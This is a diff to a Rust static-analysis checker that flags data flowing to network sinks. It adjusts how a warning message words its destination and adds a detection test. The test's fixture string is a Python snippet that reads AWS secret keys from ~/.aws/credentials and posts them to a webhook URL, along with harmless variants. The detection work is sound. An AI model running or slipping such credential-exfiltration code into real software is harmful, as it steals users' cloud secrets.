@@ -164,7 +164,9 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         SinkKind::Process => "process",
     };
     let sink_location = checker.location(call.range());
-    let destination = endpoint.map_or_else(String::new, |label| format!(", a {label}"));
+    let destination = endpoint.map_or_else(String::new, |label| {
+        format!(", {}", crate::text::with_article(&label))
+    });
     checker.report(
         &RULE,
         call.range(),
@@ -302,6 +304,18 @@ mod tests {
         // Outside branches, a clean value replaces what the name held.
         let replaced = "import os, requests\ndata = {'user': os.getlogin()}\ndata = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
         assert_eq!(max_severity("p-1/setup.py", replaced, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn a_config_parser_loaded_from_a_credentials_file_carries_the_credentials() {
+        let stealer = "import os, configparser, requests\ndef push(hook):\n    config = configparser.RawConfigParser()\n    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')\n    config.read(path)\n    found = []\n    for section in config.sections():\n        entry = {}\n        entry['key'] = config.get(section, 'aws_secret_access_key')\n        found.append(entry)\n    requests.post(hook, json=found)\ndef main():\n    push('https://connect.pabbly.com/workflow/sendwebhookdata/abc')\n";
+        assert!(max_severity("p-1/p/cli.py", stealer, "WH200") >= 0.6);
+        // A project's own settings file is no credential store.
+        let settings = stealer.replace("'.aws/credentials'", "'setup.cfg'");
+        assert!(max_severity("p-1/p/cli.py", &settings, "WH200") < 0.1);
+        // Reading the credentials without sending them is no flow.
+        let local = stealer.replace("requests.post(hook, json=found)", "print(found)");
+        assert_eq!(max_severity("p-1/p/cli.py", &local, "WH200"), 0.0);
     }
 
     #[test]
